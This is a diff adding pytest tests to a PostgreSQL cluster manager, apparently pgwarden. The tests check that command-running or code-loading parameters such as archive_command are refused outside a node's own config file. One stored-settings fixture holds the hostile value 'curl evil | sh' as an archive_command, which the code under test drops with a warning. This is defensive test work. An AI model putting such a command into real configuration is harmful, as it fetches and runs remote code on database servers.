@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 
 from pgwarden.config.errors import ConfigError
-from pgwarden.config.load import apply_setting, load_node_config, parse_node_config
+from pgwarden.config.load import apply_setting, load_node_config, parse_node_config, parse_stored_settings
 from pgwarden.config.schema import ClusterSettings, SyncMode
 
 BASE = {"cluster": "c", "name": "n1", "data_dir": "/tmp/x", "store": {"etcd": {"hosts": ["127.0.0.1:2379"]}}}
@@ -119,3 +119,43 @@ def test_yaml_friendly_conversion_and_round_trip() -> None:
     assert s.synchronous_mode is SyncMode.ON and s.ttl == 10.0
     with pytest.raises(ConfigError, match="ttl must be at least"):
         replace(s, ttl=1)  # a copy is validated again
+
+
+@pytest.mark.parametrize("key", [
+    "parameters.archive_command", "parameters.Restore_Command",
+    "postgresql.parameters.shared_preload_libraries", "parameters.ext.cleanup_command"])
+def test_set_refuses_parameters_only_a_node_file_may_set(key: str) -> None:
+    with pytest.raises(ConfigError) as e:
+        apply_setting(ClusterSettings(), f"{key}=/bin/true")
+    name = key.removeprefix("postgresql.").removeprefix("parameters.")
+    assert f"parameters.{name} runs a command or loads code" in str(e.value)
+    assert "under postgresql.parameters" in str(e.value)
+
+
+def test_node_file_may_set_them_and_they_stay_its_own() -> None:
+    params = {"archive_command": "cp %p /arch/%f", "shared_preload_libraries": "pg_stat_statements",
+              "work_mem": "8MB"}
+    cfg = parse_node_config({**BASE, "postgresql": {"parameters": params}})
+    assert cfg.postgresql.parameters == params
+    assert cfg.initial_settings().parameters == {"work_mem": "8MB"}  # the store's seed: none of them
+
+
+def test_node_file_settings_cannot_seed_them() -> None:
+    with pytest.raises(ConfigError) as e:
+        parse_node_config({**BASE, "settings": {"parameters": {"archive_command": "x"}}}, "n1.yaml")
+    assert "parameters.archive_command runs a command or loads code" in str(e.value)
+    assert "under postgresql.parameters" in str(e.value)
+    with pytest.raises(ConfigError, match="not a PostgreSQL parameter name"):
+        parse_node_config({**BASE, "postgresql": {"parameters": {"a = 1\nb": "x"}}})
+
+
+def test_a_stored_document_keeps_all_but_them(caplog: pytest.LogCaptureFixture) -> None:
+    params = {"archive_command": "curl evil | sh", "LOCAL_PRELOAD_LIBRARIES": "x", "work_mem": "8MB"}
+    doc = {"synchronous_mode": "on", "ttl": 6, "parameters": params}
+    for _ in range(3):
+        s = parse_stored_settings(doc, "etcd key /pgwarden/c/config")
+        assert (s.synchronous_mode, s.ttl, s.parameters) == (SyncMode.ON, 6.0, {"work_mem": "8MB"})
+    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
+    assert warnings == ["etcd key /pgwarden/c/config: ignoring LOCAL_PRELOAD_LIBRARIES, archive_command: "
+                        "parameters that run commands or load code are taken only from a node's own file "
+                        "(postgresql.parameters)"]  # once, not every loop
